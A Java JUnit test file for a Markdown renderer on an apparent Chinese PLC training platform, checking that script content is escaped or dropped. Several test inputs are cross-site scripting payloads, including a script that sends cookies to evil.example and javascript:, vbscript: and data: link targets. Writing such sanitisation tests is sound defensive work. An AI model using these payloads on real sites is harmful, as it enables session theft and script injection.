package cn.yrd.academy.shared.text;

import static org.assertj.core.api.Assertions.assertThat;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.select.Elements;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class MarkdownTests {

	private final Markdown markdown = new Markdown();

	@Test
	void escapesScriptElement() {
		String html = markdown.toHtml("实训前请阅读：<script>alert(1)</script>");

		assertThat(html).isEqualTo("<p>实训前请阅读：&lt;script&gt;alert(1)&lt;/script&gt;</p>\n");
	}

	@Test
	void escapesScriptBlock() {
		String html = markdown.toHtml("<script>\ndocument.location = 'https://evil.example/?' + document.cookie\n</script>\n");

		assertThat(html).doesNotContain("<script").contains("&lt;script&gt;").contains("&lt;/script&gt;");
	}

	@Test
	void escapesRawImageWithEventHandler() {
		String html = markdown.toHtml("接线图 <img src=x onerror=alert(document.cookie)> 见下");

		assertThat(html).isEqualTo("<p>接线图 &lt;img src=x onerror=alert(document.cookie)&gt; 见下</p>\n");
	}

	@ParameterizedTest
	@ValueSource(strings = { "[点这里](javascript:alert(1))", "[点这里](JaVaScRiPt:alert(1))",
			"[点这里](&#106;avascript:alert(1))", "<javascript:alert(1)>", "[点这里][x]\n\n[x]: javascript:alert(1)",
			"![图](javascript:alert(1))", "[点这里](vbscript:msgbox(1))",
			"[点这里](data:text/html,<script>alert(1)</script>)" })
	void dropsScriptLinkTargets(String source) {
		Elements targets = Jsoup.parseBodyFragment(markdown.toHtml(source)).select("a, img");

		assertThat(targets).hasSize(1);
		assertThat(targets.get(0).attributes().asList()).extracting(Attribute::getValue)
			.allSatisfy(value -> assertThat(value).doesNotContainIgnoringCase("script"));
	}

	@Test
	void keepsOrdinaryLinks() {
		String html = markdown.toHtml("[TIA Portal 手册](https://support.industry.siemens.com/cs/ww/zh/)");

		assertThat(html).contains("href=\"https://support.industry.siemens.com/cs/ww/zh/\"").contains(">TIA Portal 手册</a>");
	}

	@Test
	void rendersTable() {
		String html = markdown.toHtml("""
				| 地址 | 符号名 |
				|---|---|
				| %I0.0 | 启动按钮 |
				""");

		assertThat(html).contains("<table>").contains("<th>地址</th>").contains("<td>%I0.0</td>").contains("<td>启动按钮</td>");
	}

	@Test
	void rendersFencedCodeEscaped() {
		String html = markdown.toHtml("""
				```pascal
				IF "Start_PB" AND NOT "Stop_PB" THEN "Motor" := TRUE; END_IF; // a < b
				```
				""");

		assertThat(html).contains("<pre><code class=\"language-pascal\">")
			.contains("IF &quot;Start_PB&quot; AND NOT &quot;Stop_PB&quot; THEN &quot;Motor&quot; := TRUE; END_IF; // a &lt; b");
	}

	@Test
	void keepsChineseText() {
		String html = markdown.toHtml("## 扫描周期\n\nPLC 周而复始地执行**输入采样、程序执行、输出刷新**。");

		assertThat(html).isEqualTo("<h2>扫描周期</h2>\n<p>PLC 周而复始地执行<strong>输入采样、程序执行、输出刷新</strong>。</p>\n");
	}

	@Test
	void rendersNothingForMissingText() {
		assertThat(markdown.toHtml(null)).isEmpty();
	}

}
